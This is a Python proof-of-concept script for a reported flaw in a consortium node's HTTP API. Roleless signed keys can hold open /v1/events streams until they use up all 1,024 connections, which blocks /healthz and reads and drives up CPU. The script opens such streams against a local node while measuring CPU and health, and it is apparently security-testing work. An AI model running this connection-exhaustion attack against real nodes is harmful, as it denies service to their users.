#!/usr/bin/python3
"""Finding: any key, with no role at all, may hold /v1/events streams open (200, an empty
stream kept alive by a comment every 15 s), up to the server's whole connection limit: from
4 loopback addresses (256 each) it takes every one of the 1,024 connections, and /healthz,
/metrics and every read are refused for as long as the streams are read. Idle streams also
cost the node CPU: each is resumed every 250 ms and reads the next block from the client API.

usage: streams_flood.py CONSORTIUM_DIR HTTP_PORT NODE_PID STREAMS SECONDS"""
import os, secrets, socket, sys, time
import nacl.signing
from r2lib import chain_of, exchange, raw_request, sign_headers

cons, port, pid, n, secs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
chain = chain_of(cons)
key = nacl.signing.SigningKey(os.urandom(32))  # no role anywhere


def cpu_ticks():
    f = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
    return int(f[11]) + int(f[12])


def healthz():
    try:
        st, _, _ = exchange(port, raw_request("GET", "/healthz"), timeout=3)
        return st
    except OSError as e:
        return f"{type(e).__name__}"


t0, c0 = time.time(), cpu_ticks()
time.sleep(5)
idle = (cpu_ticks() - c0) / (time.time() - t0) / os.sysconf("SC_CLK_TCK")
print(f"node CPU before: {idle * 100:.1f}% of a core; /healthz -> {healthz()}")
socks, opened, refused = [], 0, 0
for i in range(n):
    src = f"127.0.0.{1 + i // 250}"
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=3, source_address=(src, 0))
        t = "/v1/events"
        h = sign_headers(key, chain, "GET", t, extra_params=f';nonce="{secrets.token_hex(8)}"')
        s.sendall(raw_request("GET", t, h, close=False))
        first = s.recv(4096)
        if first.startswith(b"HTTP/1.1 200"):
            opened += 1
            socks.append(s)
        else:
            refused += 1
            s.close()
    except OSError:
        refused += 1
print(f"streams opened: {opened}, refused or failed: {refused}; /healthz -> {healthz()}")
t0, c0 = time.time(), cpu_ticks()
while time.time() - t0 < secs:
    time.sleep(1)
    for s in socks:  # a reader that reads whatever comes
        s.setblocking(False)
        try:
            s.recv(65536)
        except OSError:
            pass
busy = (cpu_ticks() - c0) / (time.time() - t0) / os.sysconf("SC_CLK_TCK")
print(f"node CPU with {opened} idle streams: {busy * 100:.1f}% of a core; /healthz -> {healthz()}")
for s in socks:
    s.close()
time.sleep(1)
print(f"streams closed; /healthz -> {healthz()}")
